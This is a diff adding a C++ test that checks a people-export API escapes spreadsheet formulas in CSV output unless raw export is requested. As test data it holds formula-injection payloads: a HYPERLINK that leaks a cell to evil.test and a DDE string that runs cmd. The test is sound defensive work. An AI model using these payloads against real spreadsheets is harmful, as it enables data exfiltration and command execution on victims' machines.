@@ -192,6 +192,43 @@ TEST_F(ExportApiTest, CsvRoundTripsTrickyValuesAndIsMarkedAsAnAttachment) {
     EXPECT_EQ(last_names, (std::set<std::string>{"O\"Brien, \"Jr\"", "Niño; Pérez", "Plain"}));
 }
 
+TEST_F(ExportApiTest, CellsASpreadsheetWouldRunAreEscapedUnlessAskedForRaw) {
+    auto owner = owner_of(ws_);
+    const std::string tag = unique_name("formula");
+    const std::string formula = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
+    auto created = owner.post(
+        "/api/v1/people",
+        {{"fields",
+          {{"first_name", formula}, {"last_name", "@SUM(1+1)"}, {"country", "IT"}, {"phone", "02 1234 5678"}}},
+         {"custom", {{"notes", "-2+3+cmd|' /C calc'!A0"}, {"score", -12}}},
+         {"tags", {tag}}});
+    ASSERT_EQ(created.status, 201) << created.body;
+    const std::string filter = encode(nlohmann::json({{"field", "tags"}, {"op", "has_tag"}, {"value", tag}}).dump());
+
+    auto escaped = owner.get("/api/v1/people/export?filter=" + filter);
+    ASSERT_EQ(escaped.status, 200) << escaped.body;
+    auto records = csv_records(escaped.body);
+    ASSERT_EQ(records.size(), 1u);
+    EXPECT_EQ(records[0].at("first_name"), "'" + formula);
+    EXPECT_EQ(records[0].at("last_name"), "'@SUM(1+1)");
+    EXPECT_EQ(records[0].at("phone"), "'+390212345678");  // E.164 too, deliberately (see openapi.json)
+    EXPECT_EQ(records[0].at("custom.notes"), "'-2+3+cmd|' /C calc'!A0");
+    EXPECT_EQ(records[0].at("custom.score"), "-12");  // a number stays a number
+    EXPECT_NE(escaped.body.find(",\"'=HYPERLINK("), std::string::npos);
+
+    auto raw = owner.get("/api/v1/people/export?formula_escape=false&filter=" + filter);
+    ASSERT_EQ(raw.status, 200) << raw.body;
+    records = csv_records(raw.body);
+    ASSERT_EQ(records.size(), 1u);
+    EXPECT_EQ(records[0].at("first_name"), formula);
+    EXPECT_EQ(records[0].at("phone"), "+390212345678");
+    EXPECT_EQ(records[0].at("custom.notes"), "-2+3+cmd|' /C calc'!A0");
+
+    auto wrong = owner.get("/api/v1/people/export?formula_escape=no");
+    expect_problem(wrong, 422);
+    EXPECT_TRUE(has_error_at(wrong, "?formula_escape"));
+}
+
 TEST_F(ExportApiTest, AFilteredExportHoldsOnlyTheMatchingRecordsAndJsonFormatsAgree) {
     auto owner = owner_of(ws_);
     const std::string city = unique_name("Town");
